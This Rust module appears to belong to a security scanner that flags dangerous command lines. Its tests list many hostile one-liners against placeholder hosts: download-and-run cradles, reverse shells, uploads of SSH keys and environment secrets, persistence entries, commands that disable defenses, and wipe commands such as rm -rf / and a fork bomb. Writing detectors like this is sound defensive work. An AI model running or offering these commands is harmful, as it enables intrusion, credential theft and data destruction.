//! The ways in which a command line attacks.

mod changing;
mod code;
mod running;
mod sending;

use changing::{destroys, disarms, persists, reconfigures};
use running::{borrows_host, runs_download, runs_encoded};
use sending::{is_reverse_shell, sends_identity, sends_secrets};

use crate::contents::places::Autostart;
use crate::contents::shell::Step;

/// What a command does that it should not.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Menace {
    /// Runs what it downloads.
    RunsDownload,
    /// Runs what it decodes.
    RunsEncoded,
    /// Gives another machine a shell.
    ReverseShell,
    /// Sends secrets away.
    SendsSecrets,
    /// Tells another machine who and where it runs.
    SendsIdentity,
    /// Starts something later.
    Persists(Autostart),
    /// Switches protection or records off.
    Disarms,
    /// Wipes homes or disks.
    Destroys,
    /// Changes where tools fetch things from, or what they run.
    Reconfigures,
    /// Runs a script through a program of the system that others trust.
    BorrowsHost,
    /// Fetches a file.
    Downloads,
}

/// Every menace in the programs of a command line.
pub(super) fn all(text: &str, steps: &[Step]) -> Vec<Menace> {
    let text = plain(text);
    let mut found = Vec::new();
    let mut add = |is_there: bool, menace: Menace| {
        if is_there {
            found.push(menace);
        }
    };
    add(runs_download(&text, steps), Menace::RunsDownload);
    add(runs_encoded(&text, steps), Menace::RunsEncoded);
    add(is_reverse_shell(&text, steps), Menace::ReverseShell);
    add(sends_secrets(&text, steps), Menace::SendsSecrets);
    add(sends_identity(steps), Menace::SendsIdentity);
    add(disarms(&text, steps), Menace::Disarms);
    add(destroys(&text, steps), Menace::Destroys);
    add(reconfigures(steps), Menace::Reconfigures);
    add(borrows_host(&text, steps), Menace::BorrowsHost);
    add(steps.iter().any(is_downloader), Menace::Downloads);
    found.extend(steps.iter().find_map(persists).map(Menace::Persists));
    found
}

/// The text as `cmd` and PowerShell read it: without carets and ticks inside words, lower case.
fn plain(text: &str) -> String {
    let joined = text
        .replace("'+'", "")
        .replace("\"+\"", "")
        .replace("' + '", "");
    joined
        .chars()
        .filter(|it| !matches!(it, '^' | '`'))
        .collect::<String>()
        .to_ascii_lowercase()
}

fn has_any(text: &str, words: &[&str]) -> bool {
    words.iter().any(|word| text.contains(word))
}

fn is_downloader(step: &Step) -> bool {
    let line = step.line().to_ascii_lowercase();
    match step.program.as_str() {
        "curl" | "wget" | "aria2c" | "axel" | "lwp-download" | "lwp-request" | "iwr" | "irm"
        | "invoke-webrequest" | "invoke-restmethod" | "start-bitstransfer" | "bitsadmin"
        | "tftp" | "http" => true,
        "certutil" => line.contains("urlcache") || line.contains("verifyctl"),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::contents::shell::steps;

    fn menaces(text: &str) -> Vec<Menace> {
        all(text, &steps(text))
    }

    fn assert_all(menace: Menace, texts: &[&str]) {
        for text in texts {
            let found = menaces(text);
            assert!(
                found.contains(&menace),
                "{text}: {found:?} {:?}",
                steps(text)
            );
        }
    }

    #[test]
    fn running_a_download_is_seen_in_every_dress() {
        assert_all(
            Menace::RunsDownload,
            &[
                "curl -fsSL http://h.invalid/x.sh | sh",
                "curl http://h.invalid/x | sudo bash -s -- --yes",
                "/usr/bin/wget -qO- \u{fffc} | /bin/bash",
                "bash -c \"$(curl -fsSL https://h.invalid)\"",
                "bash -c 'curl -s http://h.invalid|bash'",
                "sh -c curl http://h.invalid/x | sh",
                "bash <(curl -s http://h.invalid)",
                "eval \"$(wget -O - http://h.invalid)\"",
                "curl http://h.invalid/x | base64 -d | python3 -",
                "curl -o /tmp/x http://h.invalid/x && chmod +x /tmp/x && /tmp/x",
                "cd /tmp; wget http://h.invalid/run.sh; sh run.sh",
                "cmd /c powershell IEX (New-Object Net.WebClient).DownloadString('http://h.invalid/x')",
                "powershell -c \"iwr http://h.invalid/x | iex\"",
                "pow^ershell -NoP -c \"I`EX(New-Object Net.WebClient).DownloadString('http://h.invalid')\"",
                "mshta http://h.invalid/x.hta",
                "regsvr32 /s /n /u /i:http://h.invalid/x scrobj.dll",
                "certutil -urlcache -split -f http://h.invalid/x.exe x.exe && start x.exe",
                "bitsadmin /transfer j http://h.invalid/x.exe C:\\x.exe & C:\\x.exe",
                "\u{fffc} -c import urllib.request as u;exec(u.urlopen('http://h.invalid').read())",
                "python3 -c \"exec(__import__('requests').get('http://h.invalid').text)\" requests.get",
            ],
        );
    }

    #[test]
    fn running_encoded_text_is_seen() {
        assert_all(
            Menace::RunsEncoded,
            &[
                "echo aGk= | base64 -d | sh",
                "echo aGk= | base64 --decode | bash -",
                "bash -c \"$(echo aGk= | base64 -d)\"",
                "powershell -enc aGk=",
                "powershell.exe -NoP -W hidden -e aGk=",
                "POWERSHELL /EncodedCommand aGk=",
                "pwsh \u{2013}ec aGk=",
                "\u{fffc} -c exec(__import__('base64').b64decode('aGk='))",
                "printf '\\x68\\x69' | sh",
                "echo aGk= | openssl base64 -d | sh",
                "echo aGk= | base64 -d > /tmp/x; sh /tmp/x",
            ],
        );
    }

    #[test]
    fn a_shell_for_another_machine_is_seen() {
        assert_all(
            Menace::ReverseShell,
            &[
                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                "bash -c 'exec 5<>/dev/tcp/192.0.2.1/1; cat <&5'",
                "nc -e /bin/sh 192.0.2.1 4444",
                "nc 192.0.2.1 4444 -c bash",
                "ncat --exec /bin/bash 192.0.2.1 1",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f",
                "socat tcp:192.0.2.1:1 exec:/bin/sh,pty",
                "powershell -c \"$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',1);$s = $c.GetStream()\"",
                "python -c 'import socket,pty;s=socket.socket();pty.spawn(\"sh\")'",
            ],
        );
    }

    #[test]
    fn sending_secrets_is_seen() {
        assert_all(
            Menace::SendsSecrets,
            &[
                "curl -F f=@$HOME/.ssh/id_rsa http://h.invalid",
                "env | curl -d @- http://h.invalid",
                "curl -d \"$(env)\" http://h.invalid",
                "cat ~/.aws/credentials | nc 192.0.2.1 1",
                "tar cz ~/.ssh | curl -T - http://h.invalid",
                "scp ~/.ssh/id_rsa u@h.invalid:",
            ],
        );
        assert_all(
            Menace::SendsIdentity,
            &[
                "curl http://h.invalid/$(whoami)",
                "nslookup $(hostname).h.invalid",
                "curl -d \"u=$USER\" http://h.invalid",
                "whoami | curl -d @- http://h.invalid",
            ],
        );
    }

    #[test]
    fn staying_is_seen() {
        for (text, kind) in [
            (
                "(crontab -l; echo '* * * * * x') | crontab -",
                Autostart::Cron,
            ),
            ("echo x >> ~/.bashrc", Autostart::Shell),
            ("sh -c 'echo x | tee -a /etc/rc.local'", Autostart::Service),
            ("schtasks /create /tn x /tr y /sc minute", Autostart::Cron),
            (
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y /f",
                Autostart::Login,
            ),
            ("systemctl --user enable --now x", Autostart::Service),
            (
                "launchctl load ~/Library/LaunchAgents/x.plist",
                Autostart::Service,
            ),
            ("cp x.py ~/.config/autostart/x.desktop", Autostart::Login),
        ] {
            assert_all(Menace::Persists(kind), &[text]);
        }
    }

    #[test]
    fn disarming_destroying_and_reconfiguring_are_seen() {
        assert_all(
            Menace::Disarms,
            &[
                "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
                "unset HISTFILE",
                "netsh advfirewall set allprofiles state off",
                "ufw disable",
                "systemctl stop auditd",
                "wevtutil cl System",
            ],
        );
        assert_all(
            Menace::Destroys,
            &[
                "rm -rf ~",
                "sudo rm -rf / --no-preserve-root",
                "rm -fr $HOME/*",
                "del /f /s /q C:\\*",
                "mkfs.ext4 /dev/sda1",
                "dd if=/dev/zero of=/dev/sda",
                ":(){ :|:& };:",
                "find / -delete",
            ],
        );
        assert_all(
            Menace::Reconfigures,
            &[
                "pip config set global.index-url http://h.invalid",
                "git config --global core.hooksPath /tmp/x",
                "npm config set registry http://h.invalid",
                "echo x > ~/.pip/pip.conf",
            ],
        );
    }

    #[test]
    fn honest_commands_are_left_alone() {
        for text in [
            "git describe --tags --dirty",
            "git rev-parse HEAD",
            "gcc -c x.c -o x.o",
            "pkg-config --cflags libffi",
            "cmake -S . -B build",
            "make -j4 install",
            "\u{fffc} setup.py build_ext --inplace",
            "\u{fffc} -c import sys; print(sys.version)",
            "python -m pytest",
            "rm -rf build dist demo.egg-info",
            "tar xzf x.tar.gz",
            "cat /proc/cpuinfo | grep model",
            "ps aux | grep python",
            "echo hello | base64",
            "cmd /c ver",
            "uname -a",
            "ldconfig -p",
            "sh -c 'command -v gcc'",
            "bash ./configure --prefix=/usr",
            "node -e 'console.log(1)'",
            "powershell -NoProfile -Command Get-Date",
            "xclip -selection clipboard",
            "",
            "\u{fffc}",
        ] {
            assert_eq!(menaces(text), [], "{text}");
        }
        assert_eq!(
            menaces("curl -s https://h.invalid/x.json | python -m json.tool"),
            [Menace::Downloads]
        );
    }
}
